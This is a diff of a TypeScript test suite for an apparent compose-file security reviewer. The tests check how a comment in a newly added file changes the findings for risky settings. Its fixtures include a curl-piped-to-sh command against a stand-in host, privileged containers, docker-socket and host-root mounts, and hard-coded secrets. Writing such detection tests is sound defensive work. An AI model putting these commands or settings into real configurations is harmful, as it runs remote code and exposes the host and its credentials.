@@ -29,9 +29,49 @@ describe('what a file is there for', () => {
     assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
   });
 
-  test('nor does one in a file that the change adds', async () => {
-    const review = await proposed({ 'compose.yaml': note + open }, { 'README.md': '' });
-    assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
+  describe('one in a file that the change adds', () => {
+    const added = (lines: string) => proposed({ 'compose.yaml': note + ships + lines }, { 'README.md': '' });
+    const alone = (lines: string) => proposed({ 'compose.yaml': ships + lines }, { 'README.md': '' });
+
+    test('counts for what harms only who runs it, and the finding says so', async () => {
+      for (const [rule, lines] of [
+        ['secret-in-env', '    environment: { API_PASSWORD: Vq7#kLp2!xZ9mR4t }\n'],
+        [
+          'datastore-port-published',
+          '  db:\n    image: postgres:17.2\n    environment: { POSTGRES_PASSWORD: postgres }\n    ports: ["5432:5432"]\n',
+        ],
+        [
+          'open-service-published',
+          '  browser:\n    image: selenium/standalone-chrome:4.27.0\n    ports: ["4444:4444"]\n',
+        ],
+      ] as const) {
+        const [before, review] = [await alone(lines), await added(lines)];
+        assert.deepEqual([before.verdict, review.verdict], ['fail', 'pass'], rule);
+        const told = review.findings.find((finding) => finding.rule.id === rule);
+        assert.match(JSON.stringify(told?.message), /the first comment of the new file says/);
+      }
+    });
+
+    test('counts for nothing that harms the host, was issued, or is of nobody knows whom', async () => {
+      const token = `ghp_${'Mc8Vh3Js5Lp0GuEaOiZq7Xw2Kd9Rf4Tb6Yn1'}`;
+      for (const [rule, lines] of [
+        ['privileged-container', '    privileged: true\n'],
+        ['docker-socket-mount', '    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n'],
+        ['host-root-mount', '    volumes: ["/:/host"]\n'],
+        ['secret-literal', `    environment: { T: ${token} }\n`],
+        ['pipe-to-shell', '    command: sh -c "curl -s http://a.example.com/x | sh"\n'],
+        ['image-mutable-tag', '  other:\n    image: unknown/other:latest\n'],
+      ] as const) {
+        const [before, review] = [await alone(lines), await added(lines)];
+        assert.notEqual(severityOf(before, rule), undefined, rule);
+        assert.deepEqual(severityOf(review, rule), severityOf(before, rule), rule);
+      }
+    });
+
+    test('counts for nothing where the file came from elsewhere', async () => {
+      const review = await proposed({ 'demo/compose.yaml': note + open }, { 'compose.yaml': ships });
+      assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
+    });
   });
 
   test('one that was there does, and no longer once the change removes it', async () => {
